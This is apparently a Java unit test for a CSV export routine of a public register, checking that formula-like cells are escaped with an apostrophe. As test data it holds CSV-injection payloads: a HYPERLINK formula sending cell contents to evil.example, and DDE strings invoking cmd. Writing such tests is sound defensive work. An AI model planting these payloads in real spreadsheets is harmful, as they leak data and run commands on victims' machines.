package gr.integrity.register.publication;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import java.io.StringReader;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.util.Arrays;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;

/**
 * What a spreadsheet opening the register's CSV would run: nothing. Text that starts like a formula is kept as
 * text behind an apostrophe; ordinary text, numbers (negative ones too) and empty cells are as they were.
 */
class PublicCsvTest {

    @Test
    void aCellThatAFormulaCouldStartIsNeutralisedAndNothingElseChanges() throws Exception {
        List<Object> attack = Arrays.asList("=HYPERLINK(\"https://evil.example/?\"&A1,\"Κλικ\")", "+1+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");
        List<Object> ordinary = Arrays.asList("Σύμβουλοι Πολιτικής Ιονίου", "a=b", "", null, new BigDecimal("-1250.50"), -3);

        List<CSVRecord> records = written(List.of("a", "b", "c", "d", "e", "f"), attack, ordinary);

        assertEquals(List.of("a", "b", "c", "d", "e", "f"), records.get(0).toList(), "the header row");
        assertEquals(List.of("'=HYPERLINK(\"https://evil.example/?\"&A1,\"Κλικ\")", "'+1+cmd|' /C calc'!A0",
                "'-2+3+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "'\t=1+1", "'\r=1+1"), records.get(1).toList());
        assertEquals(List.of("Σύμβουλοι Πολιτικής Ιονίου", "a=b", "", "", "-1250.50", "-3"), records.get(2).toList());
    }

    private static List<CSVRecord> written(List<String> columns, List<?>... rows) throws Exception {
        StringWriter out = new StringWriter();
        try (PublicCsv csv = new PublicCsv(out, columns)) {
            for (List<?> row : rows) {
                csv.row(row);
            }
        }
        return CSVFormat.RFC4180.parse(new StringReader(out.toString())).getRecords();
    }
}
